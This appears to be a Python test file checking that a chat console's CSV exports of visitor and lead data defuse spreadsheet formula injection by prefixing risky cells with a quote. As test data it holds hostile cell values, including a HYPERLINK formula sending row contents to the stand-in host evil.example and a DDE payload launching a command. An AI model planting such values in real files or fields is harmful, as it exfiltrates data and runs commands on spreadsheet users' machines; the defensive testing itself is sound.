"""The console's CSV exports are data, not formulas, whatever a visitor typed.

A visitor chooses their own name and words, and the owner opens the exports in Excel or
LibreOffice, which run a cell beginning with `=`, `+`, `-` or `@` (or a tab or a carriage return)
as a formula: `=HYPERLINK("http://evil.example/?d="&A2,"x")` sends the row's other cells away on
a click. Each export is checked over real HTTP, signed in to the console as the owner: every such
cell comes out with a leading `'` (OWASP's rule), so the spreadsheet shows it as text.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx

from talkme_consultant.talkme.visitor import Visitor
from tests.answer.llm_helpers import reply_payload
from tests.support.console_client import signed_in_client
from tests.support.eventually import eventually
from tests.support.openai_server import RecordedRequest, Reply, scripted_openai_server
from tests.support.service import model_settings, running_service, service_settings

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
# One visitor name per character a spreadsheet starts a formula with.
HOSTILE_NAMES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(export: httpx.Response) -> list[dict[str, str]]:
    """The CSV's rows as a spreadsheet would split them (the byte-order mark dropped)."""
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))


def live_formulas(rows: list[dict[str, str]]) -> list[str]:
    """Every cell a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


async def test_visitors_named_as_formulas_are_exported_with_their_names_as_text(
    tmp_path: Path,
) -> None:
    async with running_service(
        service_settings(tmp_path / "data", None, embedder="none")
    ) as service:
        for name in HOSTILE_NAMES:
            visitor = Visitor.new(name=name, phone="+7 916 123-45-67")
            await service.post_message(visitor, "Сколько стоит маникюр с покрытием?", 1)

        async def all_answered() -> bool:
            stats = await service.admin_get("/webhook/talkme/stats")
            return int(stats["messages_processed"]) >= len(HOSTILE_NAMES)

        await eventually(all_answered, what="every visitor's answer")
        async with signed_in_client(service) as client:
            export = await client.get("/console/conversations/export.csv")
            rows = rows_of(export)
            as_json = (await client.get("/console/conversations/export.json")).json()

    assert live_formulas(rows) == []
    # Every cell is quoted: a separator inside a value never starts a cell of its own.
    assert all(line.startswith('"') for line in export.text.lstrip("\ufeff").splitlines())
    assert sorted(row["client_name"] for row in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    # A phone begins with «+» too: it gets the same quote and stays readable.
    assert {row["phone"] for row in rows} == {"'+7 916 ***-**-67"}
    # JSON is not opened by spreadsheets: the names stay exactly as the visitors gave them.
    assert sorted(c["client_name"] for c in as_json["conversations"]) == sorted(HOSTILE_NAMES)


def hostile_booking_model(request: RecordedRequest) -> Reply:
    """A model that books the visitor and repeats their words as the lead's name and interest."""
    if request.schema_name == "search_queries":
        return Reply.json({"queries": ["маникюр запись"]})
    if request.schema_name == "consultant_reply":
        payload = reply_payload(
            "Спасибо! Передаю ваш номер администратору — он перезвонит.",
            wants_booking=True,
            visitor_name="@SUM(1+1)",
            interest=FORMULA,
        )
        return Reply.json(payload)
    return Reply.text("-Посетитель хотел записаться.")


async def test_a_lead_whose_words_are_formulas_is_exported_as_text(tmp_path: Path) -> None:
    async with scripted_openai_server(strict=False) as llm:
        llm.handler = hostile_booking_model
        settings = service_settings(
            tmp_path / "data", None, embedder="none", **model_settings(llm.base_url)
        )
        async with running_service(settings) as service:
            visitor = Visitor.new(name="Анна")
            await service.post_message(
                visitor, f"{FORMULA} — запишите на это, телефон 8 916 123-45-67", 1
            )

            async def lead() -> bool:
                return bool((await service.admin_get("/admin/leads"))["leads"])

            await eventually(lead, what="the lead")
            async with signed_in_client(service) as client:
                [row] = rows_of(await client.get("/console/leads/export.csv"))

    assert live_formulas([row]) == []
    assert row["interest"] == "'" + FORMULA
    assert row["name"] == "'@SUM(1+1)"
    assert row["phone"].startswith("'+7")
